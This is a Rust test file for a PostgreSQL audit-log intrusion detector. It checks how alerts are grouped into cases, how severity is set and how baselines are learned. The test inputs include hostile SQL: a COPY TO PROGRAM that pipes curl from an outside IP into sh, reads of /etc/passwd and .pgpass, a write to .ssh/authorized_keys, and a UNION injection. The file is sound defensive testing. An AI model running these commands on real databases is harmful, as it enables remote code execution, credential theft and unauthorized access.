//! Inputs that went wrong once, and what is right: each stands for a kind.

mod support;

use detect::{DetectSettings, Detector, RuleSet, SensitiveSettings};
use event::alert::Severity;
use event::vocabulary::{Action, CaseChange, Outcome};
use event::{Alert, AuditEvent, Case, Timestamp};

use support::{DAY, HOUR, MINUTE, Stream, detector, observe};

/// The alerts of one rule.
fn of<'a>(alerts: &'a [Alert], rule: &str) -> Vec<&'a Alert> {
    alerts.iter().filter(|alert| alert.rule == rule).collect()
}

#[test]
fn a_second_program_is_not_hidden_behind_an_hourly_job() {
    let mut stream = Stream::new("etl", "10.0.0.9", "etl-loader");
    for half_hour in 0..24 {
        stream.run(half_hour * 30 * MINUTE, "COPY", "copy stage from program '/opt/etl/fetch.sh'");
    }
    let pipe = "copy (select 1) to program 'curl -s https://198.51.100.9/x | sh'";
    stream.run(12 * HOUR + 10 * MINUTE, "COPY", pipe);
    for half_hour in 25..48 {
        stream.run(half_hour * 30 * MINUTE, "COPY", "copy stage from program '/opt/etl/fetch.sh'");
    }
    let observed = observe(&mut detector(), &stream);
    let alerts = of(&observed.alerts, "D01");
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
    assert_eq!(alerts[0].change, CaseChange::Opened);
    assert_eq!(alerts[1].change, CaseChange::Extended);
    assert!(alerts[1].cause.contains("curl") && alerts[1].statement.as_deref() == Some(pipe));
    let case = observed.cases.iter().find(|case| case.rule == "D01").expect("a case");
    assert_eq!((case.signals, case.causes_total), (48, 2), "{case:#?}");
    assert_eq!(case.causes.iter().map(|cause| cause.signals).collect::<Vec<_>>(), [47, 1]);
}

#[test]
fn other_files_are_not_hidden_behind_the_first() {
    let mut stream = Stream::new("mon", "10.0.0.9", "psql");
    let reads = [
        "select pg_read_file('postgresql.auto.conf')",
        "select pg_read_file('/etc/passwd')",
        "select lo_import('/var/lib/postgresql/.pgpass')",
    ];
    for (index, sql) in reads.iter().enumerate() {
        stream.run(index as i64 * 10 * MINUTE, "SELECT", sql);
    }
    let writes = ["copy t to '/tmp/a.csv'", "copy t to '/var/lib/postgresql/.ssh/authorized_keys'"];
    for (index, sql) in writes.iter().enumerate() {
        stream.run((3 + index as i64) * 10 * MINUTE, "COPY", sql);
    }
    let observed = observe(&mut detector(), &stream);
    assert_eq!(of(&observed.alerts, "D02").len(), 3, "{:#?}", observed.alerts);
    assert_eq!(of(&observed.alerts, "D03").len(), 2, "{:#?}", observed.alerts);
}

#[test]
fn every_second_record_left_out_is_one_case_with_a_count() {
    let mut stream = Stream::new("app", "10.0.0.9", "shop");
    for index in 0..30 {
        let table = char::from(b'a' + (index % 26) as u8);
        let sql = format!("select name from app.items_{table} where id = 5");
        stream.run(index * MINUTE, "SELECT", &sql).statement_number = Some(1 + 2 * index);
    }
    let observed = observe(&mut detector(), &stream);
    let alerts = of(&observed.alerts, "C04");
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let case = observed.cases.iter().find(|case| case.rule == "C04").expect("a case");
    assert_eq!((case.signals, case.causes_total), (29, 1), "whatever the tables");
}

/// What counting costs is told by what it holds, not by a clock.
#[test]
fn many_names_stay_within_the_limits() {
    let mut detector = detector();
    let mut cases = 0;
    for thousand in 0..120_i64 {
        let mut stream = Stream::new("nobody", "10.4.0.1", "psql");
        for index in 0..1_000 {
            let name = format!("user{}", thousand * 1_000 + index);
            stream.failed_login((thousand * 1_000 + index) * 10_000, &name);
        }
        cases += observe(&mut detector, &stream).alerts.len();
    }
    let statistics = detector.statistics();
    assert!(statistics.identities < 10, "an attacker's names are no identities");
    assert!(statistics.groups <= 200_000, "{}", statistics.groups);
    assert!(statistics.open_cases < 10 && cases < 40, "{cases} alerts");
}

#[test]
fn two_runs_tell_what_one_run_tells() {
    let streams: Vec<Stream> = (0..20)
        .map(|part| {
            let mut stream = Stream::new("app", "10.0.0.9", "shop");
            for index in 0..3_500_i64 {
                let session = part * 3_500 + index;
                let event = stream.run(session * 100_000, "SELECT", "select 1 from app.items");
                event.session = format!("s{session}");
                event.statement_number = Some(1);
            }
            stream
        })
        .collect();
    let mut one = detector();
    let whole: Vec<Alert> =
        streams.iter().flat_map(|stream| observe(&mut one, stream).alerts).collect();
    let mut two = detector();
    let mut parts = Vec::new();
    for (index, stream) in streams.iter().enumerate() {
        if index == 13 {
            let rules = RuleSet::builtin().expect("the built-in rules load");
            let bytes = two.snapshot();
            two = Detector::restore(&DetectSettings::default(), rules, &bytes).expect("ours");
        }
        parts.extend(observe(&mut two, stream).alerts);
    }
    assert_eq!(whole, parts);
    assert_eq!(one.snapshot(), two.snapshot());
}

/// An analyst with sixty days of habits.
fn analyst(detector: &mut Detector) {
    for day in 0..60 {
        let mut stream = Stream::new("ana", "10.0.2.7", "psql");
        for hour in 8..17 {
            for (index, table) in ["app.orders", "app.items", "app.customers"].iter().enumerate() {
                let sql = format!("select id, name from {table} where id < 100 limit 50");
                let time = day * DAY + hour * HOUR + index as i64 * 10 * MINUTE;
                stream.run(time, "SELECT", &sql).rows = Some(50 + hour * 3);
            }
        }
        let alerts = observe(detector, &stream).alerts;
        assert_eq!(alerts, [], "day {day}");
    }
}

fn with_sensitive_tables() -> Detector {
    let sensitive =
        SensitiveSettings { tables: vec!["hr.*".into(), "clinic.*".into()], level: 3, name: None };
    let settings = DetectSettings { sensitive: vec![sensitive], ..DetectSettings::default() };
    let rules = RuleSet::builtin().expect("the built-in rules load");
    Detector::new(&settings, rules).expect("valid settings")
}

#[test]
fn an_insider_at_night_is_one_case_of_high_severity() {
    let mut detector = with_sensitive_tables();
    analyst(&mut detector);
    let mut night = Stream::new("ana", "10.0.2.7", "psql");
    for (index, table) in ["hr.salaries", "hr.reviews", "clinic.patients"].iter().enumerate() {
        let sql = format!("select * from {table}");
        let time = 60 * DAY + 3 * HOUR + index as i64 * MINUTE;
        night.run(time, "SELECT", &sql).rows = Some(5_000_000);
    }
    let observed = observe(&mut detector, &night);
    assert_eq!(observed.cases.len(), 1, "{:#?}", observed.cases);
    let case = &observed.cases[0];
    assert_eq!(case.severity, Severity::High, "{}", case.explanation.engineer);
    assert_eq!(case.identity.as_deref(), Some("ana"));
    let causes: Vec<_> = case.causes.iter().map(|cause| cause.cause.as_str()).collect();
    for table in ["table hr.salaries", "table hr.reviews", "table clinic.patients"] {
        assert!(causes.contains(&table), "{causes:?}");
    }
}

#[test]
fn many_failed_statements_are_told_by_how_many_fail_on_other_days() {
    let guesses = |failures: i64, of_each_day: i64| {
        let mut detector = detector();
        for day in 0..=60 {
            let mut stream = Stream::new("ana", "10.0.2.7", "psql");
            for number in 0..if day == 60 { failures } else { of_each_day } {
                let time = day * DAY + 9 * HOUR + number * MINUTE / 60;
                stream.run(time, "SELECT", "select nam from app.orders").outcome = Outcome::Failed;
            }
            for hour in 8..17 {
                stream.run(day * DAY + hour * HOUR, "SELECT", "select id from app.orders");
            }
            let alerts = observe(&mut detector, &stream).alerts;
            if day == 60 {
                return alerts;
            }
            assert_eq!(alerts, [], "day {day}");
        }
        unreachable!()
    };
    assert_eq!(guesses(900, 600), [], "no more than on other days");
    let told = guesses(900, 1);
    let told: Vec<_> = told.iter().map(|alert| alert.explanation.manager.as_str()).collect();
    assert!(told[0].contains("had 50 statements fail on one day"), "{told:#?}");
    assert!(told.len() <= 3, "it is told again only as it becomes graver: {told:#?}");
}

#[test]
fn a_busy_day_does_not_blind_for_months() {
    let mut detector = detector();
    let service = |day: i64, statements: &dyn Fn(i64) -> String| {
        let mut stream = Stream::new("billing", "10.0.1.5", "billing");
        for hour in 0..24 {
            stream.run(day * DAY + hour * HOUR, "SELECT", &statements(hour));
        }
        stream
    };
    let usual = |_| "select amount from app.invoices where id = 1".to_owned();
    for day in 0..40 {
        assert_eq!(observe(&mut detector, &service(day, &usual)).alerts, []);
    }
    let release = |hour| format!("select amount, c{hour} from app.invoices where id = 1");
    let told = observe(&mut detector, &service(40, &release)).alerts;
    assert!(!told.is_empty(), "a release of a service is told");
    for day in 41..44 {
        observe(&mut detector, &service(day, &usual));
    }
    let injected = |_| {
        "select amount from app.invoices where id = 1 union select rolname from \
                        app.accounts"
            .to_owned()
    };
    let told = observe(&mut detector, &service(44, &injected)).alerts;
    assert!(told.iter().any(|alert| alert.rule.starts_with("baseline.")), "{told:#?}");
}

#[test]
fn a_clock_that_jumps_neither_blinds_counting_nor_ages() {
    let mut detector = detector();
    analyst(&mut detector);
    let known = detector.maturity("main", "ana").expect("known");
    let mut stream = Stream::new("ana", "10.0.2.7", "psql");
    let noon = 60 * DAY + 12 * HOUR;
    stream.run(noon, "SELECT", "select id, name from app.orders where id < 100 limit 50");
    stream.run(noon + 30 * DAY, "SELECT", "select id, name from app.items where id < 100 limit 50");
    for second in 0..10 {
        stream.failed_login(noon + second * 1_000_000, "root");
    }
    let alerts = observe(&mut detector, &stream).alerts;
    assert_eq!(of(&alerts, "A01").len(), 1, "{alerts:#?}");
    let after = detector.maturity("main", "ana").expect("known");
    assert_eq!(known.split(' ').next(), Some("59"));
    assert_eq!(after.split(' ').next(), Some("60"), "{after}");
    assert!(after.contains("active days in 60,"), "{after}");
}

#[test]
fn an_act_told_day_after_day_is_told_with_less_severity() {
    let mut detector = detector();
    let mut severities = Vec::new();
    for day in 0..5 {
        let mut stream = Stream::new("etl", "10.0.0.9", "etl-loader");
        stream.run(day * DAY, "COPY", "copy stage from program '/opt/etl/fetch.sh'");
        let alerts = observe(&mut detector, &stream).alerts;
        severities.extend(of(&alerts, "D01").iter().map(|alert| alert.severity));
    }
    let (critical, high, medium) = (Severity::Critical, Severity::High, Severity::Medium);
    assert_eq!(severities, [critical, high, medium, medium, medium]);
}

#[test]
fn a_silent_service_and_a_collapse_are_told_by_the_clock() {
    let mut detector = detector();
    for day in 0..10 {
        let mut stream = Stream::new("billing", "10.0.1.5", "billing");
        for quarter in 0..96 {
            let sql = "select amount from app.invoices where id = 1";
            stream.run(day * DAY + quarter * 15 * MINUTE, "SELECT", sql);
        }
        assert_eq!(observe(&mut detector, &stream).alerts, []);
    }
    let told = detector.tick("main", support::hour(10 * DAY + 3 * HOUR));
    assert_eq!(told.alerts, [], "three hours");
    assert_eq!(told.profiles.len(), 1, "the day has ended");
    let told = detector.tick("main", support::hour(10 * DAY + 7 * HOUR));
    assert_eq!(told.alerts.len(), 1, "{told:#?}");
    assert_eq!(told.alerts[0].rule, "baseline.silence");
    let again = detector.tick("main", support::hour(10 * DAY + 9 * HOUR));
    assert_eq!(again.alerts, [], "told once");
}

#[test]
fn a_case_that_becomes_graver_is_told_again() {
    let mut detector = detector();
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    stream.run(0, "SELECT", "select pg_read_file('/etc/passwd')");
    stream.run(MINUTE, "COPY", "copy t from program 'id'");
    let observed = observe(&mut detector, &stream);
    let changes: Vec<_> = observed.alerts.iter().map(|alert| alert.change).collect();
    assert_eq!(changes, [CaseChange::Opened, CaseChange::Escalated], "{:#?}", observed.alerts);
    let cases: Vec<&Case> = observed.cases.iter().collect();
    assert_eq!(cases.len(), 1);
    assert_eq!((cases[0].severity, cases[0].signals), (Severity::Critical, 2));
    assert!(observed.alerts.iter().all(|alert| alert.case_id == cases[0].id));
}

#[test]
fn ten_thousand_hits_are_one_case_that_says_so() {
    let mut detector = detector();
    let mut stream = Stream::new("bo", "10.0.0.9", "psql");
    for index in 0..10_000 {
        stream.run(index * 1_000_000, "SELECT", "select pg_read_file('/etc/passwd')");
    }
    let observed = observe(&mut detector, &stream);
    assert_eq!(observed.alerts.len(), 1);
    assert_eq!(observed.cases[0].signals, 10_000);
    assert_eq!(observed.cases[0].updated, Timestamp(support::START + 9_999 * 1_000_000));
}

/// A failed log-in that names nobody of the house does not become an identity.
#[test]
fn failed_log_ins_teach_nothing() {
    let mut detector = detector();
    let mut stream = Stream::new("x", "10.0.0.9", "psql");
    stream.failed_login(0, "ghost");
    observe(&mut detector, &stream);
    assert_eq!(detector.maturity("main", "ghost"), None);
    let event = AuditEvent::new("log", "test", "postgresql", "main");
    assert_eq!((event.action, event.outcome), (Action::Other, Outcome::Unknown));
}
